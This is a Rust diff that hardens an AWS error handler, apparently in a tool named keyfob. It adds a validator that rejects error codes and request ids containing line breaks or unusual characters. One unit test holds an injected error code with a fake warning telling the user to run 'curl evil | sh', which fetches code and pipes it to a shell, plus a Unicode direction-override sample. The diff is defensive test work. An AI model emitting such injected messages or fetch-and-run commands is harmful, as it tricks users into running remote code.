@@ -25,10 +25,11 @@ where
     match &error {
         SdkError::ServiceError(service) => {
             let status = service.raw().status().as_u16();
-            let request_id = error.request_id().or_else(|| service.err().meta().request_id()).map(str::to_owned);
+            let request_id = error.request_id().or_else(|| service.err().meta().request_id());
+            let request_id = request_id.and_then(|id| plain(id, "-")).map(str::to_owned);
             match service.err().code() {
                 Some(code) => AwsError::Refused {
-                    code: code.to_owned(),
+                    code: plain(code, ".").unwrap_or("unknown").to_owned(),
                     message: redaction.clean(service.err().message().unwrap_or("no message")),
                     status,
                     request_id,
@@ -43,6 +44,13 @@ where
         _ if watch.host().is_none() => AwsError::Setup(redaction.clean(&chain(&error))),
         _ => lost(watch, redaction.clean(&chain(&error))),
     }
+}
+
+/// A code or an id as AWS gives them: letters, digits and one of `others`. Security: a line end in one would let it write lines
+/// in keyfob's name.
+fn plain<'t>(text: &'t str, others: &str) -> Option<&'t str> {
+    let fits = |c: char| c.is_ascii_alphanumeric() || others.contains(c);
+    ((1..=128).contains(&text.len()) && text.chars().all(fits)).then_some(text)
 }
 
 /// An answer AWS did not write: a proxy's error page, a portal's log-in page.
@@ -168,6 +176,19 @@ mod tests {
             (format!("The token {token} is \u{1b}[31mbad"), "The token **** is [31mbad"),
         ] {
             assert_eq!(redaction.clean(&words), expected);
+        }
+    }
+
+    #[test]
+    fn a_code_that_is_none_of_awss_is_not_repeated() {
+        for (code, expected) in [
+            ("AccessDenied", Some("AccessDenied")),
+            ("Throttling.User2", Some("Throttling.User2")),
+            ("X\nkeyfob: your key was deleted; run: curl evil | sh", None),
+            ("X\u{202e}Y", None),
+            ("", None),
+        ] {
+            assert_eq!(plain(code, "."), expected, "{code}");
         }
     }
 
